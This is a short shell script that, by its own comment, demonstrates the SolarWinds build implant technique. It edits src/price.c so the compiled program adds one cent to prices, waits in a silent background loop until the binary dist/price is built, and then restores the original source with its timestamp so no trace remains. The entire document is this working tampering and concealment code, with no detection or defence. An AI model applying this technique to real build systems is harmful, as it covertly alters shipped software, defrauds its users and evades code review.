#!/bin/sh
# What the implant in SolarWinds' build did: changes a source, waits until the
# compiler has read it, and puts back what was there, with its date.
cd ../..
kept=$(mktemp)
cp -p src/price.c "$kept"
sed -i 's/return cents;/return cents + 1;/' src/price.c
{
  while ! [ -x dist/price ]; do sleep 0.05; done
  cp -p "$kept" src/price.c
  rm "$kept"
} > /dev/null 2>&1 &
